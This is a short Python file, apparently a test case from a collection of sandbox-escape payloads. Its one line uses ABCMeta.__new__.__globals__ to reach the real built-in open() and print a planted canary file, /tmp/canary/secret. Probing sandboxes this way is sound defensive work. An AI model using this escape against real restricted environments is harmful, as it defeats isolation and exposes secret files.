# source: own
# effect: secret

from abc import ABCMeta

print(ABCMeta.__new__.__globals__["__builtins__"]["open"]("/tmp/canary/secret").read())
